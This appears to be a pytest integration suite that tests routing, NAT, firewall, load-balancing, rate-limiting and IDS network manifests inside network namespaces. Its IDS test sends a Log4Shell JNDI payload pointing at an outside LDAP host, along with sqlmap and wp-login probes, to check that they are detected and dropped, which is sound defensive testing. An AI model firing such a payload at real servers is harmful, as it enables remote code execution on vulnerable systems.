"""The Click gallery between real programs: each manifest runs as it is, by `edgeos up`."""

from __future__ import annotations

import os
import re
import time
from collections.abc import Callable
from functools import partial

import pytest
from privileges import needs_tap

pytest.importorskip("edgeos.netns", reason="needs pyroute2")

from click_lab import Lab, iperf, iperf_server, lab, name_server, needs, web_server

pytestmark = [
    pytest.mark.privileged,
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root, for network namespaces"),
    needs_tap,
]


def fetch(lab: Lab, url: str, *options: str) -> tuple[int, str]:
    """Status and output of curl."""
    done = lab.run(lab.client, "curl", "-s", "--max-time", "10", *options, url)
    return done.returncode, done.stdout.strip()


def dropped(lab: Lab, reason: str) -> int:
    return sum(chain["dropped"].get(reason, 0) for chain in lab.statistics["chains"])


@needs("ping", "curl", "iperf3")
def test_bridge() -> None:
    with lab("bridge", ["10.0.0.2/24"], ["10.0.0.1/24"]) as it:
        assert it.pings("10.0.0.1") == 3
        with web_server(it.server, "10.0.0.1"):
            assert fetch(it, "http://10.0.0.1/") == (0, "10.0.0.1")
        with iperf_server(it.server, "10.0.0.1"):
            assert iperf(it, "10.0.0.1", "-n", "4M")["sum_sent"]["bytes"] >= 4_000_000
        forth = it.read("edge/bridge@10.0.0.2", "forth.count")
        assert forth["sum"] > 1000
    assert dropped(it, "verdict") == 0


@needs("ping")
def test_ping() -> None:
    with lab("ping", ["10.0.0.2/24", "10.0.0.3/24"]) as it:
        for source in ("10.0.0.2", "10.0.0.3"):
            assert it.pings("10.0.0.1", "-I", source) == 3
        assert it.pings("10.0.0.1", "-s", "1400") == 3
        answered = it.read("edge/ping", "answered.count")
        values = {client["client"]: client["value"] for client in answered["clients"]}
        assert (values["10.0.0.2"], values["10.0.0.3"]) == ("6", "3")
        assert answered["sum"] == 9


@needs("ping", "curl", "dig", "iperf3")
def test_firewall() -> None:
    routes = {"lan_routes": [("192.0.2.0/24", None)], "wan_routes": [("10.0.0.0/8", None)]}
    with lab("firewall", ["10.0.0.2/24"], ["192.0.2.1/24"], **routes) as it:  # type: ignore[arg-type]
        assert it.pings("192.0.2.1") == 3
        with name_server(it.server, "192.0.2.1"):
            done = it.run(it.client, "dig", "+short", "+tries=3", "@192.0.2.1", "example.org")
            assert done.stdout == "192.0.2.53\n"
        with web_server(it.server, "192.0.2.1"), web_server(it.server, "192.0.2.1", 8080):
            assert fetch(it, "http://192.0.2.1/") == (0, "192.0.2.1")
            before = it.read("edge/fw@10.0.0.2", "denied.count")["sum"]
            assert fetch(it, "http://192.0.2.1:8080/", "--connect-timeout", "1") == (28, "")
            assert it.read("edge/fw@10.0.0.2", "denied.count")["sum"] > before
        with iperf_server(it.server, "192.0.2.1"):
            assert iperf(it, "192.0.2.1", "-n", "1M")["sum_sent"]["bytes"] >= 1_000_000
    assert dropped(it, "verdict") > 0


@pytest.fixture
def router() -> Callable[..., object]:
    def run(**more: object) -> object:
        return lab(
            "router",
            ["10.1.0.2/24"],
            ["10.2.0.2/24", "10.3.0.1/16"],
            lan_routes=[("default", "10.1.0.1")],
            wan_routes=[("10.1.0.0/24", "10.2.0.1")],
            **more,  # type: ignore[arg-type]
        )

    return run


@needs("ping", "curl", "traceroute", "iperf3")
def test_router(router: Callable[..., object]) -> None:
    with router() as it:  # type: ignore[attr-defined]
        for address in ("10.1.0.1", "10.2.0.1", "10.2.0.2", "10.3.0.1"):
            assert it.pings(address) == 3, address
        assert it.pings("10.3.0.1", "-s", "4000") == 3, "datagrams in fragments"
        hops = it.run(it.client, "traceroute", "-n", "-q", "1", "-w", "5", "10.3.0.1").stdout.splitlines()[1:]
        assert [line.split()[1] for line in hops] == ["10.1.0.1", "10.3.0.1"]
        unreachable = it.run(it.client, "ping", "-n", "-c", "1", "-W", "5", "10.9.9.9").stdout
        assert re.search(r"From 10\.1\.0\.1 .*Destination Net Unreachable", unreachable), unreachable
        with web_server(it.server, "10.3.0.1"):
            assert fetch(it, "http://10.3.0.1/") == (0, "10.3.0.1")
        with iperf_server(it.server, "10.2.0.2"):
            assert iperf(it, "10.2.0.2", "-n", "2M")["sum_sent"]["bytes"] >= 2_000_000


@needs("ping", "curl")
def test_router_with_a_small_mtu(router: Callable[..., object]) -> None:
    with router(edit=lambda text: text.replace("define = { ", "define = { WAN_MTU = 800, ")) as it:  # type: ignore[attr-defined]
        needed = it.run(it.client, "ping", "-n", "-c", "1", "-W", "5", "-M", "do", "-s", "1400", "10.2.0.2").stdout
        assert re.search(r"From 10\.1\.0\.1 .*Frag needed .*mtu = 800", needed), needed
        assert it.pings("10.2.0.2", "-s", "2000", "-M", "dont") == 3, "fragments in both directions"
        with web_server(it.server, "10.3.0.1"):
            assert fetch(it, "http://10.3.0.1/") == (0, "10.3.0.1"), "TCP finds the path's MTU"


@needs("ping", "curl", "dig", "traceroute")
def test_nat_hides_many_clients_behind_one_address() -> None:
    clients = [f"192.168.1.{n}" for n in (10, 11, 12)]
    with lab(
        "nat",
        [f"{address}/24" for address in clients],
        ["203.0.113.1/24", "198.51.100.7/32"],
        lan_routes=[("default", "192.168.1.1")],
    ) as it:
        assert it.pings("192.168.1.1") == 3, "the gateway itself"
        for source in clients:
            assert it.pings("198.51.100.7", "-I", source) == 3
        with web_server(it.server, "198.51.100.7") as asked:
            for source in clients:
                assert fetch(it, "http://198.51.100.7/", "--interface", source) == (0, "198.51.100.7")
            assert asked == ["203.0.113.2"] * 3, "the server sees the gateway's address alone"
        with name_server(it.server, "198.51.100.7"):
            for source in clients:
                done = it.run(it.client, "dig", "+short", "+tries=3", "-b", source, "@198.51.100.7", "example.org")
                assert done.stdout == "192.0.2.53\n"
        hops = it.run(it.client, "traceroute", "-n", "-q", "1", "-w", "5", "198.51.100.7").stdout.splitlines()[1:]
        assert [line.split()[1] for line in hops] == ["192.168.1.1", "198.51.100.7"], "errors find their way in"
        refused = it.run(it.client, "curl", "-s", "--max-time", "10", "http://198.51.100.7:81/").returncode
        assert refused == 7, "a reset comes back"
        outside = it.run(it.server, "ping", "-n", "-c", "1", "-W", "5", "203.0.113.2").stdout
        assert "1 received" in outside
        assert it.read("edge/nat", "flows.size")["sum"] >= 7


@needs("ping", "curl")
def test_balancer_spreads_clients_and_keeps_each_with_its_server() -> None:
    clients = [f"10.1.0.{n}" for n in range(10, 26)]
    servers = ["10.2.0.11", "10.2.0.12", "10.2.0.13"]
    with lab(
        "balancer",
        [f"{address}/24" for address in clients],
        [f"{address}/24" for address in servers],
        wan_routes=[("10.1.0.0/24", "10.2.0.1")],
    ) as it:
        assert it.pings("10.1.0.100") == 3
        with web_server(it.server, servers[0]), web_server(it.server, servers[1]), web_server(it.server, servers[2]):
            for source in clients:
                chosen = {fetch(it, "http://10.1.0.100/", "--interface", source) for _ in range(2)}
                assert len(chosen) == 1, "each connection of a client goes to the same server"
                assert chosen <= {(0, server) for server in servers}
        table = it.read("edge/balancer", "balance.tcp_table")["clients"][0]["value"]
        assert all(server in table for server in servers), "no server goes without"


@needs("ping", "iperf3")
def test_limiter_holds_each_client_to_its_rate() -> None:
    rates = {"UP": 1_000_000, "DOWN": 2_000_000}
    edit = partial(re.sub, r'UP = "\w+", DOWN = "\w+"', ", ".join(f'{name} = "{rate}"' for name, rate in rates.items()))
    with lab("limiter", ["10.0.0.2/24", "10.0.0.3/24"], ["10.0.0.1/24"], edit=edit) as it:
        assert it.pings("10.0.0.1", "-I", "10.0.0.3") == 3
        with iperf_server(it.server, "10.0.0.1"):
            check_rate(it, rates["UP"])
            check_rate(it, rates["DOWN"], "-R")
            it.write("edge/limiter@10.0.0.2", "up.rate", "100000")
            check_rate(it, 100_000)
        rates_now = {c["client"]: c["value"] for c in it.read("edge/limiter", "up.rate")["clients"]}
        assert (rates_now["10.0.0.2"], rates_now["10.0.0.3"]) == ("100000", str(rates["UP"]))
        assert it.read("edge/limiter@10.0.0.2", "up_queue.drops")["sum"] > 0


def check_rate(it: Lab, rate: int, *options: str) -> None:
    """A transfer moves something, and no more than the rate allows in the time that it took from start to end."""
    begin = time.monotonic()
    found = iperf(it, "10.0.0.1", "-B", "10.0.0.2", "-t", "1", *options)["sum_received"]
    assert 20_000 < found["bytes"] <= rate * (time.monotonic() - begin + 0.02), (rate, found)


@needs("curl")
def test_ids_drops_and_tells() -> None:
    with lab("ids", ["10.0.0.2/24", "10.0.0.3/24"], ["10.0.0.1/24"]) as it, web_server(it.server, "10.0.0.1"):
        url = "http://10.0.0.1/"
        for source in ("10.0.0.2", "10.0.0.3"):
            assert fetch(it, url, "--interface", source) == (0, "10.0.0.1")
        assert fetch(it, f"{url}wp-login.php", "--interface", "10.0.0.2") == (0, "10.0.0.1"), "an alert lets it pass"
        assert fetch(it, url, "--interface", "10.0.0.2", "-A", "SQLmap/1.0") == (0, "10.0.0.1"), "in either case"
        assert fetch(it, url, "--interface", "10.0.0.3", "-m", "1", "-A", "${jndi:ldap://10.6.6.6/a}") == (28, "")
        matches = {c["client"]: c["value"] for c in it.read("edge/ids", "out.matches")["clients"]}
        assert set(matches["10.0.0.2"].splitlines()) == {"1\tscanner sqlmap", "1\tWordPress login"}
        assert re.fullmatch(r"\d+\tlog4shell\n", matches["10.0.0.3"])
        assert it.read("edge/ids@10.0.0.3", "stopped.count")["sum"] > 0
    assert dropped(it, "verdict") > 0


@needs("ping")
def test_handlers_reach_the_clients_of_all_workers() -> None:
    clients = [f"10.0.0.{n}" for n in range(2, 14)]
    addresses = [f"{address}/24" for address in clients]
    with lab("bridge", addresses, ["10.0.0.1/24"], edit=lambda text: f"[node]\nworkers = 2\n{text}") as it:
        for source in clients:
            assert it.pings("10.0.0.1", "-I", source, count=2) == 2
        found = it.read("edge/bridge", "forth.count")
        counts = {client["client"]: int(client["value"]) for client in found["clients"]}
        assert set(counts) >= set(clients)
        assert found["sum"] == sum(counts.values())
        assert it.read("edge/bridge@10.0.0.9", "forth.count")["sum"] == 2
        it.write("edge/bridge", "forth.reset", "")
        after = {client["client"]: client["value"] for client in it.read("edge/bridge", "forth.count")["clients"]}
        assert {after[address] for address in clients} == {"0"}
    assert {worker["index"] for worker in it.statistics["workers"]} == {0, 1}
